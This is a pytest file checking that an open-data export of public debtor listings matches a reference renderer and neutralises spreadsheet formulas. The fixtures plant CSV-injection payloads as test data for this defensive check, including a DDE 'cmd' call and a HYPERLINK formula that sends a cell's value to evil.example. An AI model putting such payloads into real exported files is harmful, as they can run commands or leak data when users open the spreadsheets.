"""The open-data files hold, byte for byte, what the public entries say: the export may be fast, never different.

The reference below renders the files the plain way, one `PublicEntry` (the rule the pages and the API use) at a
time through `csv.DictWriter` with every cell neutralised and `json.dumps`: it is the export as it was written
before it was made fast (issue 15). The data set is varied on purpose: the demo's persons and organisations, and
debtors whose names, obligations and documents a spreadsheet would run as formulas, that need quoting or JSON
escapes, a passport holder without a birth date, an organisation without a legal representative, partial
payments, several grounds, restriction orders, a publication just after midnight in Beijing, and entries that
are not public (in their grace period, closed) and must not appear.
"""

import csv
import datetime
import io
import json
from decimal import Decimal

import pytest
import time_machine
from django.core.management import call_command
from django.utils import timezone

from enforcement import services
from enforcement.csvcells import neutralise
from enforcement.models import CaseState, Party
from listings import opendata
from listings.selectors import public_entries, public_rows
from tests.factories import OrganisationFactory, PersonFactory, ResponsiblePersonFactory

pytestmark = pytest.mark.django_db


def reference_files(today: datetime.date) -> dict[str, bytes]:
    """The files as the export wrote them before issue 15, from the public entries."""
    keys = [key for key, _ in opendata.FIELDS]
    ids = list(public_rows(today).order_by("pk").values_list("pk", flat=True))
    csv_text, jsonl_text = io.StringIO(), io.StringIO()
    csv_text.write("\ufeff")
    writer = csv.DictWriter(csv_text, fieldnames=keys)
    writer.writeheader()
    for entry in public_entries(ids, today=today):
        record = {
            "entry_id": entry.id,
            "kind": entry.kind,
            "name": entry.name,
            "sex": entry.sex,
            "age": entry.age,
            "id_number": entry.id_number_masked,
            "legal_representative": entry.legal_representative,
            "court": entry.court_name,
            "province": entry.province,
            "case_number": entry.case_number,
            "filed_on": entry.filed_on.isoformat(),
            "basis_issuer": entry.basis_issuer,
            "basis_number": entry.basis_number,
            "obligation": entry.obligation,
            "currency": entry.currency,
            "amount_due": str(entry.amount_due),
            "amount_performed": str(entry.amount_performed),
            "amount_unperformed": str(entry.amount_unperformed),
            "grounds": ";".join(str(g) for g in entry.grounds),
            "published_on": entry.published_on.isoformat(),
            "restricted_categories": ";".join(entry.restricted_categories),
        }
        assert list(record) == keys
        writer.writerow({key: neutralise(value) for key, value in record.items()})
        jsonl_text.write(json.dumps(record, ensure_ascii=False) + "\n")
    return {"csv": csv_text.getvalue().encode("utf-8"), "jsonl": jsonl_text.getvalue().encode("utf-8")}


HOSTILE_OBLIGATION = "=cmd|' /C calc'!A0 \"引号\", 逗号\n第二行\\反斜杠\x01\u2028𠮷"


@pytest.fixture
def varied_list(walk, settings, tmp_path):
    """The demo's list and, beside it, the cases the export's encodings must get right."""
    settings.OPEN_DATA_ROOT = str(tmp_path)
    call_command("demo_data", cases=60, seed=11, stdout=open("/dev/null", "w"))  # noqa: SIM115
    walk.listed(debtor=PersonFactory(name='=HYPERLINK("http://evil.example/?"&A1,"点击")'), grounds=(2, 3, 5))
    walk.listed(debtor=PersonFactory(name="＝１＋２"), obligation=HOSTILE_OBLIGATION, basis_issuer="@SUM(1)")
    walk.listed(debtor=PersonFactory(name="-3"), basis_number="+86 10 1234", from_state=CaseState.RESTRICTED)
    walk.listed(
        debtor=PersonFactory(id_type=Party.IdType.PASSPORT, id_number="E12345678", sex="", birth_date=None),
        grounds=(1,),
    )
    organisation = OrganisationFactory(name='@某某有限公司, "分公司"')
    ResponsiblePersonFactory(organisation=organisation, person=PersonFactory(name="+法定代表人"))
    walk.listed(debtor=organisation, amount_due=Decimal("12345678.90"))
    walk.listed(debtor=OrganisationFactory(name="无法定代表人有限公司"), amount_due=Decimal("0.07"))
    paid_in_part = walk.listed(amount_due=Decimal("1000.00"))
    walk.pay(paid_in_part, amount="999.99")
    # Published at 01:30 in Beijing, 17:30 the day before in UTC: the file says the Beijing day.
    with time_machine.travel(datetime.datetime(2026, 11, 20, 17, 30, tzinfo=datetime.UTC), tick=False):
        walk.listed()
    walk.listed(grace_months=1)  # not yet published
    closed = walk.listed()
    services.case_close(actor=walk.approver, case_id=closed.pk, reason="judgment_set_aside")
    return closed


def exported(**kwargs) -> dict[str, bytes]:
    paths = opendata.export(**kwargs)
    return {fmt: path.read_bytes() for fmt, path in paths.items()}


def test_the_files_are_byte_for_byte_what_the_public_entries_say(varied_list):
    today = timezone.localdate()
    expected = reference_files(today)
    files = exported(today=today)
    assert files["csv"] == expected["csv"]
    assert files["jsonl"] == expected["jsonl"]
    # The data set holds what it claims to (a test over an empty list would prove nothing).
    rows = list(csv.DictReader(io.StringIO(files["csv"].decode("utf-8-sig"))))
    records = [json.loads(line) for line in files["jsonl"].decode().split("\n") if line]
    assert len(rows) == len(records) > 20
    assert {"person", "organisation"} == {row["kind"] for row in rows}
    assert varied_list.case_number not in {row["case_number"] for row in rows}
    cells = [cell for row in rows for cell in row.values()]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"点击")' in cells
    assert {"'＝１＋２", "'@SUM(1)", "'+法定代表人", "-3"} <= set(cells)  # a plain number stays as it is
    assert "'" + HOSTILE_OBLIGATION in cells
    assert HOSTILE_OBLIGATION in {record["obligation"] for record in records}
    assert {"E1****78", '\'@某某有限公司, "分公司"'} <= set(cells)
    assert any(record["age"] is None and record["kind"] == "person" for record in records)
    assert {"12345678.90", "0.07", "999.99", "0.01"} <= {row[key] for row in rows for key in ("amount_due",
            "amount_performed", "amount_unperformed")}  # fmt: skip
    assert "2026-11-21" in {row["published_on"] for row in rows}
    assert "2;3;5" in {row["grounds"] for row in rows}
    assert any(row["restricted_categories"] for row in rows)
    assert all(len(row["id_number"]) == 18 and "****" in row["id_number"] for row in rows
               if row["kind"] == "person" and row["age"])  # fmt: skip


@pytest.mark.parametrize("batch_size", [1, 7, 100_000])
def test_the_files_do_not_depend_on_the_size_of_the_batches_read(varied_list, batch_size):
    today = timezone.localdate()
    assert exported(today=today, chunk_size=batch_size) == reference_files(today)


def test_an_empty_list_gives_files_with_only_the_header(db, settings, tmp_path):
    settings.OPEN_DATA_ROOT = str(tmp_path)
    files = exported()
    assert files["csv"] == ("\ufeff" + ",".join(key for key, _ in opendata.FIELDS) + "\r\n").encode()
    assert files["jsonl"] == b""
